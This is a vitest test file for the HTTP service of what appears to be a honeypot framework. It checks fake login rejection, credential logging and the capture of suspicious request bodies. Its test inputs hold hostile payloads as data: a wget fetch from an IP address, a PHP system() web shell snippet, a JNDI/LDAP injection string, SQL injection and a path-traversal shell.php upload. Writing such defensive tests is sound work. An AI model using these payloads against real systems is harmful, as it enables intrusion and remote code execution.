// The http service without sockets: transcripts, evidence without secrets, the sign-in site, bodies.
import { MAX_FRAME_BYTES } from '@decnet/kernel'
import { describe, expect, it } from 'vitest'
import { runTranscript, type TestDecky, testDecky, transcriptsBeside } from '../testing.ts'
import { http } from './service.ts'

for (const [name, transcript] of transcriptsBeside(import.meta.url)) {
  it(`transcript ${name}`, () => runTranscript(http, transcript))
}

const post = (path: string, type: string, body: string) =>
  `POST ${path} HTTP/1.1\r\nHost: h\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body, 'latin1')}\r\n\r\n${body}`
const FORM = 'application/x-www-form-urlencoded'

async function said(decky: TestDecky, request: string) {
  const client = decky.connect()
  await client.settle()
  let answer = await client.send(request)
  if (answer.length === 0) {
    // The sign-in site takes its time over a password.
    decky.clock.advance(1000)
    answer = await client.settle()
  }
  return { client, answer: answer.toString('latin1') }
}

describe.each(['nginx', 'apache'] as const)('sign-in site behind %s', (product) => {
  const site = (seed = 'test seed') => testDecky(http, { options: { product, site: 'login' }, seed, chance: seed })

  it('turns every password away, each time with another token and session', async () => {
    const decky = await site()
    const [first, second] = [
      await said(decky, post('/login', FORM, 'username=admin&password=hunter2')),
      await said(decky, post('/login', FORM, 'username=admin&password=hunter2')),
    ]
    for (const { answer, client } of [first, second]) {
      expect(answer).toMatch(/^HTTP\/1\.1 200 OK\r\n/)
      expect(answer).toContain('Invalid username or password.')
      expect(client.events.filter((event) => event.kind === 'credential.tried').map((event) => event.facts)).toMatchObject([
        { method: 'form', principal: 'admin', secret: 'hunter2', outcome: 'rejected' },
      ])
      expect(client.captures).toEqual([])
    }
    const parts = (answer: string) => [/_token" value="([0-9a-f]{64})"/.exec(answer)?.[1], /PHPSESSID=([0-9a-v]{26});/.exec(answer)?.[1]]
    expect(parts(first.answer)).not.toContain(undefined)
    expect(parts(first.answer)).not.toEqual(parts(second.answer))
  })

  it('shows a password in no other event than credential.tried', async () => {
    const decky = await site()
    const requests = [
      post('/login', FORM, 'username=admin&password=S3cretWord'),
      post('/api/login', 'application/json', '{"username":"a","password":"S3cretWord"}'),
      post(
        '/login',
        'multipart/form-data; boundary=b',
        '--b\r\nContent-Disposition: form-data; name="password"\r\n\r\nS3cretWord\r\n--b--\r\n',
      ),
      'GET /login?user=a&password=S3cretWord HTTP/1.1\r\nHost: h\r\nAuthorization: Basic YTpTM2NyZXRXb3Jk\r\n\r\n',
      'GET /%?password=S3cretWord HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer S3cretWord\r\n\r\n',
      'GET http://u:S3cretWord@h/ HTTP/1.1\r\nHost: h\r\n\r\n',
    ]
    for (const request of requests) {
      const { client } = await said(decky, request)
      const others = JSON.stringify(client.events.filter((event) => event.kind !== 'credential.tried'))
      expect(others).not.toMatch(/S3cretWord|YTpTM2NyZXRXb3Jk/)
      expect(client.events.some((event) => event.kind === 'request.made')).toBe(true)
      expect(client.captures).toEqual([])
    }
  })

  it('is another company, with other times, on another decky, and the same again after a restart', async () => {
    const ask = async (seed: string) => {
      const decky = await site(seed)
      const page = (await said(decky, 'GET /login HTTP/1.0\r\n\r\n')).answer
      const file = (await said(decky, 'HEAD /assets/app.css HTTP/1.0\r\n\r\n')).answer
      return [/<title>.*<\/title>/.exec(page)?.[0], /ETag: .*/.exec(file)?.[0]]
    }
    expect(await ask('one')).toEqual(await ask('one'))
    const [title, tag] = await ask('two')
    expect([title, tag]).not.toContain(undefined)
    expect(await ask('one')).not.toContain(title)
    expect(await ask('one')).not.toContain(tag)
  })
})

describe.each(['nginx', 'apache'] as const)('bodies to %s', (product) => {
  const open = () => testDecky(http, { options: { product } })

  it('captures what is no login form, and uploads by their own names', async () => {
    const body =
      '--xx\r\nContent-Disposition: form-data; name="f"; filename="../../shell.php"\r\nContent-Type: text/php\r\n\r\n<?php\r\n--x ?>\r\n--xx--\r\n'
    const { client } = await said(await open(), post('/upload', 'multipart/form-data; boundary=xx', body))
    expect(client.captures.map(({ name, bytes }) => [name, bytes.toString()])).toEqual([
      ['../../shell.php', '<?php\r\n--x ?>'],
      ['body', body],
    ])
    expect(client.events.filter((event) => event.kind === 'file.captured').map((event) => event.facts.how)).toEqual(['upload', 'body'])
  })

  const multipart = (...fields: [string, string][]) =>
    `${fields.map(([name, value]) => `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`).join('')}--b--\r\n`

  it.each([
    ['urlencoded', FORM, 'log=admin&pwd=x&wp-submit=Log+In&redirect_to=http%3A%2F%2Fh%2Fwp-admin%2F&testcookie=1'],
    ['tokens', FORM, '_token=0af3&user%5Blogin%5D=a%40b.example&user%5Bpassword%5D=p&remember=on'],
    ['a repeated password', FORM, 'username=a&pass1=p&pass2=p'],
    ['json', 'application/json', '{"username":"a","password":"p","remember":true}'],
    ['multipart', 'multipart/form-data; boundary=b', multipart(['user', 'a'], ['pass', 'p'])],
  ])('captures nothing of a plain login form: %s', async (_, type, body) => {
    const { client } = await said(await open(), post('/login', type, body))
    expect(client.events.filter((event) => event.kind === 'credential.tried')).toHaveLength(1)
    expect(client.captures).toEqual([])
  })

  it.each([
    ['a command beside a password', FORM, 'pass=x&cmd=wget+http%3A%2F%2F198.51.100.1%2Fa.sh'],
    ['code in a token', FORM, 'username=a&password=p&_token=%3C%3Fphp+system%28%24_GET%5B0%5D%29%3B'],
    ['code in a name', FORM, 'username=a&password=p&%24%7Bjndi%3Aldap%3A%2F%2Fx%7D%5Buser%5D=a'],
    ['another principal', FORM, 'username=a&password=p&id=1+or+1%3D1'],
    ['another password', FORM, 'username=a&password=p&new_password=q'],
    ['a password too long to tell', FORM, `username=a&password=${'p'.repeat(2000)}`],
    ['many fields', FORM, `username=a&password=p&${'token=1&'.repeat(300)}cmd=id`],
    ['nested json', 'application/json', '{"username":"a","password":"p","data":{"cmd":"id"}}'],
    ['multipart', 'multipart/form-data; boundary=b', multipart(['user', 'a'], ['pass', 'p'], ['cmd', 'id'])],
  ])('captures the body of a form that says more than a login: %s', async (_, type, body) => {
    const { client } = await said(await open(), post('/shell.php', type, body))
    expect(client.events.filter((event) => event.kind === 'credential.tried')).toHaveLength(1)
    expect(client.captures.map(({ name, bytes }) => [name, bytes.toString('latin1')])).toEqual([['body', body]])
  })

  it('streams a long body to the capture', async () => {
    const decky = await open()
    const client = decky.connect()
    await client.send('POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 300000\r\n\r\n')
    for (let sent = 0; sent < 300_000; sent += 50_000) await client.send(Buffer.alloc(50_000, 0x41))
    const made = client.events.find((event) => event.kind === 'request.made')
    expect(made?.facts).toMatchObject({ status: 404, body_size: 300_000 })
    expect(client.captures.map((capture) => capture.bytes.length)).toEqual([300_000])
  })

  it('writes down a request whose body never ends', async () => {
    const decky = await open()
    const client = decky.connect()
    await client.send('POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 10\r\n\r\nabc')
    await client.hangUp()
    expect(client.events.filter((event) => event.kind === 'request.made').map((event) => event.facts.body_size)).toEqual([3])
  })

  it('keeps every event within a frame', async () => {
    const odd = '\xff\x01"\\'.repeat(1500)
    const headers = Array.from({ length: 90 }, (_, index) => `X-${index}: ${'\xfe"'.repeat(40)}`).join('\r\n')
    for (const request of [
      `GET /${odd} HTTP/1.1\r\nHost: h\r\n\r\n`,
      `GET /${'\xff'.repeat(4000)} HTTP/1.1\r\nHost: h\r\n${headers}\r\n\r\n`,
    ]) {
      const { client } = await said(await open(), request)
      expect(client.events.length).toBeGreaterThan(0)
      // An envelope adds less than 600 bytes.
      for (const event of client.events) expect(Buffer.byteLength(JSON.stringify(event))).toBeLessThan(MAX_FRAME_BYTES - 600)
    }
  })

  it('names neither itself nor its makers', async () => {
    const decky = await testDecky(http, { options: { product, site: 'login' }, hostname: 'decky-seven' })
    for (const path of ['/', '/login', '/nothing', '/assets/app.css', '/forgot']) {
      const { answer } = await said(decky, `GET ${path} HTTP/1.0\r\n\r\n`)
      expect(answer).not.toMatch(/decnet|decky|node\.?js|express|honey/i)
    }
  })
})
